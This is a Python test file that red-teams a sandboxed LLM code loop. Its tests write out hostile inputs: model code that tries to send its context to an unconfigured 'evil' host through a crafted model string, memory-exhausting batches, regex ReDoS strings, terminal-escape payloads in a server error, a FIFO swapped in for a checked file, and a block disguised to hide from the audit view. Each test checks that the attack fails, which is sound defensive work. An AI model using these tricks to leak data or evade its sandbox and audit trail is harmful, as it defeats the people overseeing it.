"""A red team's round against the RLM loop: what a hostile model (or a prompt injection in the
context) can make the parent process do, and what an embedder's patterns can break.

The model's code runs in a sandbox with no network; everything it asks of the parent must stay
within what the caller configured.
"""

from __future__ import annotations

import time

import pytest

from rlm import ScriptedBackend, run
from rlm.trajectory import LOG_TEXT_CHARS
from tests.llm_server import LLMServer


def repl(code: str, text: str = "") -> str:
    return f"{text}\n```repl\n{code}\n```\n"


@pytest.mark.parametrize(
    "call",
    [
        "llm_query('ctx: ' + context, model=MODEL)",
        "llm_query_batched(['ctx: ' + context], model=MODEL)",
        "rlm_query('ctx: ' + context, model=MODEL)",
        "rlm_query_batched(['ctx: ' + context], model=MODEL)",
    ],
)
def test_the_code_cannot_send_a_call_to_a_model_the_caller_did_not_configure(call: str):
    """litellm posts to a URL named in the model string (``oobabooga/http://host``, whatever
    ``api_base`` says; ``huggingface/https://host`` with the key): a model argument from the code
    would be a way out of the sandbox to any host, with the context."""
    with LLMServer("from elsewhere") as evil, LLMServer("sub answer") as legit:
        model = "oobabooga/" + evil.base_url.removesuffix("/v1")
        code = (
            f"MODEL = {model!r}\ntry:\n    r = {call}\nexcept Exception as exc:\n    r = repr(exc)\nprint(r)"
        )
        backend_reply = repl(code) + "FINAL_VAR(r)"
        r = run(
            "q", "SECRET DATA", model="openai/root", sub_model="openai/sub", api_base=legit.base_url,
            api_key="sk-RED-TEAM-0123456789", max_depth=2, max_iterations=1,
            backend=_RootScripted(backend_reply, legit.base_url),
        )  # fmt: skip
        assert evil.requests == []
        assert r.answer is not None and "model must be None or 'openai/root' or 'openai/sub'" in r.answer
        assert r.sub_calls == 0


def test_the_code_may_still_choose_between_the_configured_models():
    backend = ScriptedBackend(
        {"root": [repl("a = llm_query('x', model='root')\nb = llm_query('y', model='sub')\nFINAL(a + b)")],
         "sub": ["S"]}
    )  # fmt: skip
    backend._queues["root"].append("R")  # the sub-call on the root model
    r = run("q", "c", model="root", sub_model="sub", backend=backend)
    assert r.answer == "RS" and r.usage["root"].calls == 2 and r.usage["sub"].calls == 1


class _RootScripted:
    """The root model answers from a script; every other call goes through litellm."""

    def __init__(self, reply: str, api_base: str) -> None:
        from rlm.backend import LiteLLMBackend

        self.reply = reply
        self.real = LiteLLMBackend(api_base=api_base, api_key="sk-RED-TEAM-0123456789")

    def complete(self, model, messages, **kwargs):
        from rlm.llm import Completion

        if model == "openai/root" and messages[0]["role"] == "system" and len(messages) == 2:
            return Completion(self.reply, model, 1, 1, None)
        return self.real.complete(model, messages, **kwargs)

    def count_tokens(self, model, messages):
        return 1

    def max_input_tokens(self, model):
        return None


@pytest.mark.parametrize("fn", ["llm_query_batched", "rlm_query_batched"])
def test_one_batched_call_cannot_take_the_hosts_memory(fn: str):
    """Each prompt of a batch cost the host about 3 KB (a task, a log entry, an answer) before the
    first one ran, and empty prompts pack at one byte each: 300,000 of them took 900 MB of the
    host, and one call may pass up to a million (the sandbox's cap on a value's elements)."""
    import resource

    code = f"try:\n    r = {fn}([''] * 300_000)\nexcept Exception as exc:\n    r = str(exc)"
    backend = ScriptedBackend({"root": [repl(code) + "FINAL_VAR(r)"], "sub": ["s"]})
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    r = run("q", "c", model="root", sub_model="sub", backend=backend, max_sub_calls=10, max_iterations=1)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert r.answer is not None
    assert (
        f"{fn}() takes at most 10,000 prompts per call, not 300,000: split them into several calls"
        in r.answer
    )
    assert r.sub_calls == 0 and grown_mb < 200


def test_calls_after_the_run_stopped_cost_the_host_nothing(tmp_path):
    """Out of budget, every sub-call and tool call of the code is refused; a block that caught the
    refusals and looped on went on until the policy's CPU limit, and each refusal kept a log entry
    (with its whole prompt) in the host: 142,000 entries, a 43 MB trajectory line, in 23 s; 3 GB
    with 4 MB prompts. Each refused ``rlm_query`` started a child run: a sandbox and three files."""
    events: list[dict] = []
    code = (
        "p = 'y' * 10_000\n"
        "try:\n    llm_query('first')\nexcept Exception as exc:\n    first = str(exc)\n"
        "for i in range(2_000):\n    try:\n        llm_query(p)\n    except Exception:\n        pass\n"
        "for i in range(20):\n    try:\n        rlm_query('x')\n    except Exception:\n        pass\n"
        "r = llm_query_batched(['x'] * 500)\n"
        "for i in range(200):\n    try:\n        ping()\n    except Exception:\n        pass\n"
        "FINAL(first + ' | ' + r[0])"
    )  # fmt: skip

    def ping() -> str:
        return "pong"

    backend = ScriptedBackend({"root": [repl(code)], "sub": ["s"]})
    r = run(
        "q", "c", model="root", sub_model="sub", backend=backend, max_tokens=1, max_depth=2,
        log_dir=tmp_path, tools=[ping], on_event=events.append, max_iterations=1,
    )  # fmt: skip
    assert r.stop_reason == "final" and r.answer is not None
    assert r.answer.count("token budget used up") == 2
    calls = r.history[0]["code_blocks"][0]["result"]["rlm_calls"]
    assert [c["prompt"] for c in calls] == ["first"]  # the refusal that stopped the run, only
    assert sum(e["type"] == "sub_call" for e in events) == 1
    assert r.tool_calls == 0 and not any(e["type"] == "tool_call" for e in events)
    assert len(list(tmp_path.iterdir())) == 3  # the root run's files, no child's


def test_rlm_view_renders_a_trajectory_of_the_wrong_shapes(tmp_path):
    """A damaged or hand-edited log (a line's ``result`` a list, ``code_blocks`` a number, a
    ``usage_summary`` a string, token counts as text in ``.result.json``) made ``rlm view`` fail
    with a traceback; the parts of the wrong shape are left out and the page is written."""
    import json

    from rlm.view import build_page

    lines = [
        {"type": "metadata", "run_id": "r"},
        {"type": "iteration", "code_blocks": 5, "prompt": 5, "usage": "x"},
        {"type": "iteration", "code_blocks": [{"result": [1]}, 7, {"code": 5, "result": {"rlm_calls": {"a": 1}}}]},
        {"type": "iteration", "code_blocks": [{"result": {"rlm_calls": [{"usage_summary": "x"}, 3,
            {"usage_summary": {"model_usage_summaries": [1]}}]}}]},
    ]  # fmt: skip
    path = tmp_path / "r.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    (tmp_path / "r.result.json").write_text('{"usage": {"m": {"input_tokens": "x", "cost_usd": "y"}}}')
    page = build_page(path)
    data = json.loads(page.split('id="rlm-data">', 1)[1].split("</script>", 1)[0])
    run = data["runs"][0]
    assert run["summary"]["code_blocks"] == 3 and run["summary"]["sub_calls"] == 2
    assert run["summary"]["input_tokens"] == 0 and run["summary"]["cost_usd"] is None


def test_json_nested_too_deep_is_bad_input_not_a_traceback(tmp_path):
    """Python's JSON parser raises RecursionError (not ValueError) for ``[`` * 100,000: a line like
    that in ``rlm batch``'s input or output file, or in a trajectory, ended the command with a
    traceback."""
    from tests.conftest import run_cli

    deep = "[" * 100_000 + "\n"
    good = '{"id": "a", "query": "q", "context": "c"}\n'
    (tmp_path / "in.jsonl").write_text(deep + good)
    flags = ["-m", "openai/x", "--api-base", "http://127.0.0.1:9/v1"]
    out = run_cli("batch", str(tmp_path / "in.jsonl"), "--out", str(tmp_path / "out.jsonl"), *flags)
    assert out.returncode == 2 and "line 1: invalid JSON (nested too deeply)" in out.stderr, out.stderr
    assert "Traceback" not in out.stderr

    (tmp_path / "in.jsonl").write_text(good)
    (tmp_path / "old.jsonl").write_text(deep + '{"id": "b"}\n')
    out = run_cli("batch", str(tmp_path / "in.jsonl"), "--out", str(tmp_path / "old.jsonl"), *flags)
    assert out.returncode == 2 and "Traceback" not in out.stderr, out.stderr

    (tmp_path / "run.jsonl").write_text('{"type": "metadata", "run_id": "run"}\n' + deep)
    (tmp_path / "run.result.json").write_text(deep)
    out = run_cli("view", str(tmp_path / "run.jsonl"), "-o", str(tmp_path / "run.html"))
    assert out.returncode == 0 and (tmp_path / "run.html").exists(), out.stderr
    out = run_cli("view", str(tmp_path), "-o", str(tmp_path / "index.html"))
    assert out.returncode == 0, out.stderr

    # Deep enough to parse (json.loads takes about a thousand levels) but not for the page's
    # walks over it: a bad line too, not a RecursionError out of rlm view.
    nested = "[" * 600 + "]" * 600
    (tmp_path / "run.jsonl").write_text(
        '{"type": "metadata", "run_id": "run"}\n{"type": "iteration", "prompt": ' + nested + "}\n"
    )
    (tmp_path / "run.result.json").write_text('{"answer": ' + nested + "}")
    out = run_cli("view", str(tmp_path / "run.jsonl"), "-o", str(tmp_path / "run.html"))
    assert out.returncode == 0 and "Traceback" not in out.stderr, out.stderr


def test_variables_nested_too_deeply_do_not_end_the_run(tmp_path):
    """The loop reads the model's variables back after each block from ``rlm_describe_vars()``,
    which the code may redefine: JSON nested 600 deep parses, then the walks over the
    trajectory entry and the result raised RecursionError out of ``run`` (log or no log). Such
    a description is dropped, and the run goes on."""
    code = "def rlm_describe_vars():\n    print('{\"x\": ' + '[' * 600 + ']' * 600 + '}')\nx = 1"
    for log_dir in (tmp_path, None):
        backend = ScriptedBackend({"root": [repl(code), "FINAL(done)"]})
        result = run("q", "c", model="root", backend=backend, max_iterations=3, log_dir=log_dir)
        assert result.answer == "done", result


def test_a_fifo_as_context_path_is_bad_input_not_a_hang(tmp_path):
    """Checking a ``context_path`` opened it for reading, which for a FIFO waits for a writer: the
    batch hung before running anything. A FIFO is not a regular file: bad input (exit 2)."""
    import os

    from rlm.batching.items import BatchItem
    from rlm.errors import ConfigurationError
    from tests.conftest import run_cli, within

    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "in.jsonl").write_text('{"id": "a", "query": "q", "context_path": "fifo"}\n')
    flags = ["-m", "openai/x", "--api-base", "http://127.0.0.1:9/v1"]
    out = run_cli(
        "batch", str(tmp_path / "in.jsonl"), "--out", str(tmp_path / "out.jsonl"), *flags, timeout=20
    )
    assert out.returncode == 2 and "line 1: context_path" in out.stderr and "not a regular file" in out.stderr

    # the file checked may be swapped for a FIFO before its item starts
    item = BatchItem("a", "q", context_path=tmp_path / "fifo")
    with pytest.raises(ConfigurationError, match="not a regular file"):
        within(10, item.load_context)


def test_the_context_read_is_the_file_that_was_checked(tmp_path, monkeypatch):
    """``load_context`` checked the path (a regular file), closed it, and read it again by name:
    a FIFO put in its place between the two hung the read, forever. The text now comes from the
    descriptor that was checked. (The swap is made right after the check's fstat.)"""
    import os

    from rlm.batching.items import BatchItem
    from tests.conftest import within

    path = tmp_path / "ctx.txt"
    path.write_text("the checked text")
    real_fstat, swapped = os.fstat, []

    def fstat_then_swap(fd: int) -> os.stat_result:
        st = real_fstat(fd)
        if not swapped:
            swapped.append(True)
            path.rename(tmp_path / "moved.txt")
            os.mkfifo(path)
        return st

    monkeypatch.setattr(os, "fstat", fstat_then_swap)
    item = BatchItem("a", "q", context_path=path)
    text, _ = within(10, item.load_context)
    assert swapped and text == "the checked text"


def test_a_call_without_a_price_does_not_erase_the_spend_before_it():
    """max_cost_usd summed each model's ``cost_usd``, which becomes None (unknown) for good once
    one call of that model has no price: the model's whole earlier spend then stopped counting,
    and the budget let the run go on. Known prices are summed apart from the report now."""
    from rlm.budget import Budgets, Ledger
    from rlm.llm import Completion

    ledger = Ledger(Budgets(max_cost_usd=1.0))
    ledger.record("m", Completion("a", "m", 10, 10, 0.9))
    ledger.record("m", Completion("b", "m", 10, 10, None))  # a provider that gave no price
    assert ledger.usage()["m"].cost_usd is None  # reported as unknown, as before
    assert ledger.exhausted() is None
    ledger.record("m", Completion("c", "m", 10, 10, 0.2))
    assert ledger.exhausted() == "max_cost_usd"


def test_a_batch_budget_counts_the_priced_calls_of_a_run_with_an_unpriced_one():
    """A run whose sub-model has no price (a local server beside a priced root model, as the
    README suggests) reports ``cost_usd`` None, and a batch counted it as $0: every later item
    got the whole budget again, and ``--budget-usd 1`` let five items spend $4.50. The run's
    ``priced_cost_usd`` is what the batch counts now."""
    from rlm.backend import ScriptedBackend as Scripted
    from rlm.batching.engine import schedule
    from rlm.batching.items import BatchItem
    from rlm.batching.worker import error_record
    from rlm.llm import Completion

    turns: list[str] = []

    def reply(model: str, messages: object) -> Completion:
        if model == "root":
            turns.append(model)
            text = repl("print(llm_query('hi'))") if len(turns) == 1 else "FINAL(done)"
            return Completion(text, model, 10, 10, 0.45)
        return Completion("hi", model, 10, 10, None)  # no price

    result = run("q", "c", model="root", sub_model="local", backend=Scripted(reply), max_iterations=3)
    assert result.answer == "done" and result.cost_usd is None, result
    assert result.priced_cost_usd == pytest.approx(0.9)

    class Engine:  # stands for the process pool: each item "runs" as the run above did
        capacity = 1

        def __init__(self) -> None:
            self.done: list[tuple[BatchItem, dict[str, object]]] = []

        def submit(self, item: BatchItem, cap: float | None) -> None:
            record = dict(error_record(item.id, "final", ""), answer="done", error=None)
            record.update(cost_usd=None, priced_usd=result.priced_cost_usd)
            self.done.append((item, {"record": record}))

        def wait(self, timeout: float) -> list[tuple[BatchItem, dict[str, object]]]:
            done, self.done = self.done, []
            return done

        def close(self, *, cancel: bool) -> None:
            pass

    items = [BatchItem(str(i), "q", context="c") for i in range(5)]
    out = list(schedule(items, Engine, budget_usd=1.0, poll_s=0))
    assert [r.stop_reason for r in out] == ["final", "final", "skipped", "skipped", "skipped"]


def test_a_run_that_fails_after_priced_calls_keeps_its_spend_in_the_batch(tmp_path):
    """A run that raised after priced calls (its sub-model's key rejected, after the root
    model's calls) left an error line with ``priced_usd`` null: the batch counted it as $0, and
    a resumed batch did too, so items failing that way could spend past ``--budget-usd`` without
    end. The error a run raises now carries what it spent (``RLMError.priced_cost_usd``), and
    its line records it."""
    import json

    from rlm.backend import ScriptedBackend as Scripted
    from rlm.batching.outfile import ResultsFile, encode_record
    from rlm.batching.worker import RunSettings, run_item
    from rlm.errors import AuthenticationError, ConfigurationError
    from rlm.llm import Completion
    from sandbox import load_policy

    def reply(model: str, messages: object) -> Completion:
        if model == "root":
            return Completion(repl("print(llm_query('hi'))"), model, 10, 10, 0.45)
        raise AuthenticationError("the sub-model's key was rejected", model=model)

    settings = RunSettings(
        model="root",
        sub_model="sub",
        policy=load_policy("default"),
        max_iterations=3,
        rlm_options={"backend": Scripted(reply)},
    )
    with pytest.raises(AuthenticationError) as info:
        run("q", "c", model="root", sub_model="sub", backend=Scripted(reply), max_iterations=3)
    assert info.value.priced_cost_usd == pytest.approx(0.45)
    out = run_item("a", "q", "c", settings)
    record = out["record"]
    assert out["fatal"] and out["fatal"][0] == "AuthenticationError"
    assert record["stop_reason"] == "error" and record["priced_usd"] == pytest.approx(0.45)
    # A resumed batch counts it too.
    path = tmp_path / "out.jsonl"
    path.write_bytes(encode_record(record))
    results = ResultsFile(path).open()
    try:
        assert results.spent_usd == pytest.approx(0.45)
    finally:
        results.close()
    # An error raised before the run started spent nothing, and says so.
    with pytest.raises(ConfigurationError) as bad:
        run("q", object(), model="root", backend=Scripted(reply))
    assert bad.value.priced_cost_usd is None
    assert json.loads(encode_record(record))["priced_usd"] == pytest.approx(0.45)


def test_a_run_that_fails_after_priced_calls_reports_its_tokens_and_cost_in_the_batch():
    """The error line of such a run had 0 tokens and ``cost_usd`` null, though every call it
    made was priced: the batch's summary showed its tokens as none and said "calls of unknown
    price in 1 run(s)". The error carries what the run spent (``RLMError.spent``); the line
    has its tokens and its cost, and the summary no price it does not know."""
    import io

    from rlm import BatchResult
    from rlm.backend import ScriptedBackend as Scripted
    from rlm.batching.progress import Progress
    from rlm.batching.worker import RunSettings, run_item
    from rlm.errors import AuthenticationError
    from rlm.llm import Completion
    from sandbox import load_policy

    def reply(model: str, messages: object) -> Completion:
        if model == "root":
            return Completion(repl("print(llm_query('hi'))"), model, 10, 7, 0.45)
        raise AuthenticationError("the sub-model's key was rejected", model=model)

    with pytest.raises(AuthenticationError) as info:
        run("q", "c", model="root", sub_model="sub", backend=Scripted(reply), max_iterations=3)
    assert info.value.spent == (10, 7, pytest.approx(0.45))
    settings = RunSettings(
        model="root", sub_model="sub", policy=load_policy("default"), max_iterations=3,
        rlm_options={"backend": Scripted(reply)},
    )  # fmt: skip
    record = run_item("a", "q", "c", settings)["record"]
    assert (record["input_tokens"], record["output_tokens"]) == (10, 7), record
    assert record["cost_usd"] == pytest.approx(0.45) and record["priced_usd"] == pytest.approx(0.45)
    progress = Progress(1, io.StringIO(), live=False)
    progress.add(BatchResult.from_record(record))
    summary = progress.summary("out.jsonl")
    assert "17 tokens, $0.4500" in summary and "unknown price" not in summary, summary


def test_a_resumed_batch_counts_what_the_runs_already_in_out_spent(tmp_path):
    """``rlm batch`` handed the whole ``--budget-usd`` to every invocation: a batch stopped by a
    crash or Ctrl-C and run again got its budget afresh ($2.70 spent of $1 over two runs). The
    runs already in OUT count now: their ``priced_usd`` (or, in older lines, ``cost_usd``)."""
    import json

    from rlm.batching.outfile import ResultsFile
    from rlm.batching.worker import error_record

    out = tmp_path / "out.jsonl"
    lines = [
        dict(error_record("a", "final", ""), answer="1", error=None, cost_usd=None, priced_usd=0.5),
        dict(error_record("b", "final", ""), answer="2", error=None, cost_usd=0.25),  # an older line
        {k: v for k, v in dict(error_record("c", "final", ""), answer="3", error=None, cost_usd=0.2).items()
         if k != "priced_usd"},
        error_record("d", "skipped", "skipped: budget"),  # runs again: counts nothing
    ]  # fmt: skip
    out.write_text("".join(json.dumps(line) + "\n" for line in lines))
    results = ResultsFile(out).open()
    try:
        assert results.done == {"a", "b", "c"} and results.spent_usd == pytest.approx(0.95)
    finally:
        results.close()

    (tmp_path / "in.jsonl").write_text(
        "".join(json.dumps({"id": i, "query": "q", "context": "c"}) + "\n" for i in "abcde")
    )
    from tests.conftest import run_cli

    flags = ["-m", "openai/x", "--api-base", "http://127.0.0.1:9/v1", "--budget-usd", "0.9"]
    got = run_cli("batch", str(tmp_path / "in.jsonl"), "--out", str(out), *flags)
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert got.returncode == 1, got.stderr  # some items skipped: not complete
    assert {r["id"]: r["stop_reason"] for r in records if r["id"] in "de"} == {"d": "skipped", "e": "skipped"}


def _bounded(code: str, seconds: float = 20) -> str:
    """Run *code* in a Python process of its own and return its output: a regex that holds the
    GIL cannot be timed out from a thread of this one."""
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=seconds)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_a_fence_line_padded_with_spaces_is_parsed_in_linear_time():
    """The fence pattern gave back spaces between two overlapping ``[ \\t]*`` runs: a reply with a
    line of ``` and 60,000 spaces and a stray backtick took 48 s of CPU to parse (quadratic; an
    hour per megabyte), past ``max_time_s``, holding the GIL (``rlm mcp`` answered no client
    meanwhile). The pattern never gives back now."""
    out = _bounded(
        "from rlm.final import extract_code_blocks, strip_code\n"
        "line = '```' + ' ' * 1_000_000 + '`'\n"
        "reply = line + '\\n```repl\\nx = 1\\n```\\n~~~' + '\\t' * 1_000_000 + '~\\n'\n"
        "print(extract_code_blocks(reply), strip_code(reply).startswith(line))\n"
    )
    assert out.split() == ["['x", "=", "1']", "True"]


def test_a_typed_answer_of_a_fence_and_newlines_is_checked_in_linear_time():
    """With ``output_type`` set, the answer's surrounding fence was stripped by a pattern whose
    ``(.*?)``, ``\\n`` and ``\\s*`` overlap on newlines: ``FINAL('```\\n' + '\\n' * 5000 + 'x')`` took
    64 s to check (cubic), past the run's ``max_time_s``. The fence is stripped by hand now."""
    from rlm.typed import AnswerType

    out = _bounded(
        "from rlm.typed import AnswerType, AnswerTypeError\n"
        "try:\n"
        "    AnswerType(int).validate('```\\n' + '\\n' * 200_000 + 'x')\n"
        "except AnswerTypeError:\n"
        "    print('refused')\n"
    )
    assert out.strip() == "refused"
    check = AnswerType(int)
    assert check.validate("```json\n42\n```") == 42  # a fenced answer is still unwrapped
    assert check.validate("```\n 7 \n\n  ```") == 7
    assert AnswerType(str).validate("```python\n```") == "```python\n```"  # one line: no body


def test_rlm_batch_shows_a_server_s_error_with_its_escapes_escaped(tmp_path):
    """``rlm batch`` printed a fatal error (a rejected key, an unknown model) as the model
    server wrote it: a 401 whose message held an OSC title change, a clear-screen and an OSC 8
    hyperlink reached the operator's terminal raw. ``rlm run`` already escaped them."""
    import json
    import os

    from tests import warm_cli
    from tests.llm_server import LLMServer, Reply

    hostile = "key rejected \x1b]0;owned\x07\x1b[2J \x1b]8;;http://evil/\x1b\\click\x1b]8;;\x1b\\"
    (tmp_path / "in.jsonl").write_text(json.dumps({"id": "a", "query": "q", "context": "c"}) + "\n")
    env = dict(os.environ, OPENAI_API_KEY="sk-test-not-a-real-key")
    with LLMServer(Reply(hostile, status=401, error_code="invalid_api_key")) as srv:
        got = warm_cli.run(
            ["batch", str(tmp_path / "in.jsonl"), "--out", str(tmp_path / "out.jsonl"),
             "-m", "openai/gpt-4o-mini", "--api-base", srv.base_url],
            env=env, capture_output=True, text=True, timeout=120,
        )  # fmt: skip
    assert "key rejected" in got.stderr, got.stderr
    assert "\x1b" not in got.stderr and "\x07" not in got.stderr
    assert "\\x1b]0;owned" in got.stderr  # shown, escaped


def test_rlm_run_reads_standard_input_as_strict_utf8_under_the_c_locale(tmp_path):
    """Under the C locale ``sys.stdin`` decodes bad bytes to lone surrogates: a non-UTF-8
    context on standard input failed later, in the sandbox, with exit 1 ("surrogates not
    allowed"). In a file, the same bytes ended ``rlm run`` in a ValueError traceback. Both are
    a usage error now (exit 2, "not UTF-8 text")."""
    import os
    import subprocess
    import sys

    env = dict(os.environ, LC_ALL="C", PYTHONUTF8="0", PYTHONIOENCODING="", OPENAI_API_KEY="sk-x")
    got = subprocess.run(
        [sys.executable, "-m", "rlm", "run", "--context", "-", "--query", "q", "-m", "openai/x",
         "--api-base", "http://127.0.0.1:9/v1"],
        input=b"caf\xe9 au lait\xff", capture_output=True, env=env, timeout=120,
    )  # fmt: skip
    assert got.returncode == 2, got.stderr
    assert b"standard input: not UTF-8 text (byte 3)" in got.stderr
    # The same bytes in a file: the same usage error (it was a ValueError traceback, exit 1).
    (tmp_path / "ctx.txt").write_bytes(b"caf\xe9 au lait\xff")
    got = subprocess.run(
        [sys.executable, "-m", "rlm", "run", "--context", str(tmp_path / "ctx.txt"), "--query", "q",
         "-m", "openai/x", "--api-base", "http://127.0.0.1:9/v1"],
        capture_output=True, env=env, timeout=120,
    )  # fmt: skip
    assert got.returncode == 2 and b"Traceback" not in got.stderr, got.stderr
    assert b"ctx.txt: not UTF-8 text (byte 3)" in got.stderr


def test_a_reply_of_many_loud_blocks_keeps_the_host_bounded():
    """Every block of a reply ran, and the run's history kept each block's whole output and its
    variable description (which the model may redefine to print a megabyte): 600 blocks printing
    a megabyte each took 621 MB of host memory, 1000 took 4.5 GB, and one reply ran for a
    thousand wall limits. At most MAX_BLOCKS_PER_REPLY blocks of a reply run now, and what the
    history keeps of a block is cut as the trajectory cuts it."""
    from rlm.core import MAX_BLOCKS_PER_REPLY
    from rlm.trajectory import LOG_TEXT_CHARS

    loud = "def rlm_describe_vars():\n    print('{\"x\": \"' + 'v' * 900_000 + '\"}')\n"
    reply = repl(loud) + "".join(repl("print('x' * 900_000)") for _ in range(MAX_BLOCKS_PER_REPLY + 10))
    seen: list[str] = []

    def model(name: str, messages: list[dict[str, str]]) -> str:
        seen.append(messages[-1]["content"])
        return reply if len(seen) == 1 else "FINAL(done)"

    result = run("q", "c", model="m", backend=ScriptedBackend(model), max_iterations=2)
    assert result.answer == "done"
    blocks = result.history[0]["code_blocks"]
    assert len(blocks) == MAX_BLOCKS_PER_REPLY
    assert all(len(b["result"]["stdout"]) < LOG_TEXT_CHARS + 100 for b in blocks)
    assert all(b["result"]["locals"] == {} for b in blocks[1:])  # the megabyte description is not kept
    assert (
        f"[blocks {MAX_BLOCKS_PER_REPLY + 1} to {MAX_BLOCKS_PER_REPLY + 11} were not run: at most" in seen[1]
    )


def test_a_reply_of_fifty_thousand_blocks_is_read_without_copying_them():
    """Every ```repl block of a reply was copied out, twice over as (kind, info, text) segments,
    although at most MAX_BLOCKS_PER_REPLY run: a 20 MB reply of a million small blocks from a
    server took 424 MB of host memory (119 MB now; a 20 MB reply of prose takes 112 MB) and
    reading it 6 s of CPU holding the GIL (4 s now), a pattern compiled per block. The blocks
    that run are copied; the others are only counted. ScriptedBackend counted the reply's
    words with a list of them all (25 MB here)."""
    import tracemalloc

    from rlm.core import MAX_BLOCKS_PER_REPLY

    count = 50_000
    reply = repl("x = 1") * count
    seen: list[str] = []

    def model(name: str, messages: list[dict[str, str]]) -> str:
        seen.append(messages[-1]["content"])
        return reply if len(seen) == 1 else "FINAL(done)"

    run("q", "c", model="m", backend=ScriptedBackend(["FINAL(warm)"]))  # modules imported before tracing
    tracemalloc.start()
    try:
        result = run("q", "c", model="m", backend=ScriptedBackend(model), max_iterations=2)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.answer == "done"
    assert len(result.history[0]["code_blocks"]) == MAX_BLOCKS_PER_REPLY
    assert f"[blocks {MAX_BLOCKS_PER_REPLY + 1} to {count} were not run: at most" in seen[1]
    # The reply is 0.95 MB: the run's peak was 19 MB, 1 MB now.
    assert peak < 3 * len(reply), f"{peak / 1e6:.1f} MB traced for a {len(reply) / 1e6:.1f} MB reply"


def test_a_block_cannot_pass_itself_off_as_the_loop_s_own_code_in_rlm_view(tmp_path):
    """``rlm view`` marked an audit record "internal" (the loop's own helpers, not linked to any
    block) when its code *began* like a helper's: a model block starting with
    ``rlm_describe_vars()`` lost its audit link (its outcome, CPU and memory) and was hidden
    among the helpers. Only the helpers' exact code counts now."""
    from pathlib import Path

    from rlm.view.load import load_path

    disguised = "rlm_describe_vars()\nsecret = 'x' * 10\nprint('mine')"
    replies = [repl(disguised), "FINAL(done)"]
    r = run("q", "c", model="m", backend=ScriptedBackend(replies), log_dir=tmp_path, max_iterations=3)
    data = load_path(Path(r.log_path))
    runs = data.get("runs", [data])
    root = runs[0]
    block = root["iterations"][0]["code_blocks"][0]
    assert block["code"] == disguised and block.get("audit") is not None, block.get("audit")
    record = root["audit"]["records"][block["audit"]]
    assert record["internal"] is False and record["outcome"] == "ok"
    internal = [rec["code"] for rec in root["audit"]["records"] if rec["internal"]]
    assert "rlm_describe_vars()" in internal and disguised not in internal


def _context_window_exceeded():
    """The loopback server's answer to every request: the prompt is too long (HTTP 400)."""
    from tests.llm_server import Reply

    return Reply(
        "This model's maximum context length is 128000 tokens",
        status=400,
        error_code="context_length_exceeded",
    )


def test_sub_calls_the_provider_refused_keep_only_a_cut_prompt_in_the_host(tmp_path):
    """Each sub-call's log entry is kept for the whole run (``history``, the trajectory), and it
    held the whole prompt: a block looping on a 5 MB prompt that the provider refused as too long
    (free, and no budget counts it) took 5 MB of the host per call, 100 calls 770 MB. What the
    host keeps of a call (prompt, response, error, a tool's arguments and value) is now cut as
    the trajectory cuts any text. Through litellm's real HTTP path, against the loopback server."""
    import json

    def lookup(key: list) -> str:
        return "v" * (3 * LOG_TEXT_CHARS)

    big = 4 * LOG_TEXT_CHARS
    code = (
        f"p = 'w ' * {big // 2}\nn = 0\n"
        "for i in range(4):\n    try:\n        llm_query(p)\n    except Exception as exc:\n        n += 1\n"
        f"v = lookup(['k'] * {big // 4})\n"
        "print(n, len(v))"
    )  # fmt: skip
    refused = _context_window_exceeded()
    with LLMServer(refused) as srv:
        r = run(
            "q", "c", model="openai/root", sub_model="openai/sub", api_base=srv.base_url,
            backend=_RootScripted(repl(code) + "FINAL(done)", srv.base_url), tools=[lookup],
            log_dir=tmp_path, max_iterations=1, max_retries=0,
        )  # fmt: skip
        assert [len(q.last_user) for q in srv.requests] == [big] * 4  # the provider got each whole
    block = r.history[0]["code_blocks"][0]
    assert block["result"]["stdout"] == f"4 {3 * LOG_TEXT_CHARS}\n"
    calls = block["result"]["rlm_calls"]
    assert [c.get("error_type") for c in calls] == ["ContextWindowExceeded"] * 4 + [None]
    kept = [c[key] for c in calls for key in ("prompt", "response") if isinstance(c.get(key), str)]
    assert len(kept) == 10 and all(len(text) < LOG_TEXT_CHARS + 100 for text in kept)
    assert sum("characters not logged" in text for text in kept) == 6  # 4 prompts, the tool's call and value
    assert calls[-1]["args"] is None and calls[-1]["kwargs"] is None and calls[-1]["result"] is None
    assert len(json.dumps(r.history)) < 12 * LOG_TEXT_CHARS


def test_the_call_log_of_one_block_is_bounded_however_many_calls_it_makes(tmp_path):
    """Cut at LOG_TEXT_CHARS each, the entries of a block of many refused sub-calls still grew
    with their number: 2,000 calls with 60,000-character prompts (0.4 s of the child's CPU) kept
    100 MB of the host and wrote a 100 MB trajectory line. Past BLOCK_CALL_LOG_CHARS of kept
    text in a block, each text of a later call keeps REPEAT_CHARS."""
    import rlm.core
    from rlm.trajectory import REPEAT_CHARS

    budget = 2_000_000  # rlm.core.BLOCK_CALL_LOG_CHARS (checked last)

    n, size = 150, 60_000
    code = f"r = llm_query_batched(['w ' * {size // 2}] * {n})\nprint(sum(x.startswith('Error') for x in r))"
    refused = _context_window_exceeded()
    with LLMServer(refused) as srv:
        r = run(
            "q", "c", model="openai/root", sub_model="openai/sub", api_base=srv.base_url,
            backend=_RootScripted(repl(code) + "FINAL(done)", srv.base_url),
            log_dir=tmp_path, max_iterations=1, max_retries=0,
        )  # fmt: skip
        assert len(srv.requests) == n and all(len(q.last_user) == size for q in srv.requests)
    block = r.history[0]["code_blocks"][0]
    assert block["result"]["stdout"] == f"{n}\n"
    calls = block["result"]["rlm_calls"]
    assert len(calls) == n
    texts = [sum(len(c[k]) for k in ("prompt", "response", "error")) for c in calls]
    # (a batch's entries come in prompt order: the first to end kept the most)
    full = sum(1 for c in calls if len(c["prompt"]) > LOG_TEXT_CHARS)  # cut at LOG_TEXT_CHARS: a few more
    assert 0 < full <= budget // LOG_TEXT_CHARS + 1
    assert sum(1 for c in calls if len(c["prompt"]) < REPEAT_CHARS + 100) == n - full
    assert sum(texts) < budget + LOG_TEXT_CHARS + n * 3 * (REPEAT_CHARS + 100)
    (trajectory,) = tmp_path.glob("*.jsonl")
    assert trajectory.stat().st_size < 2 * budget
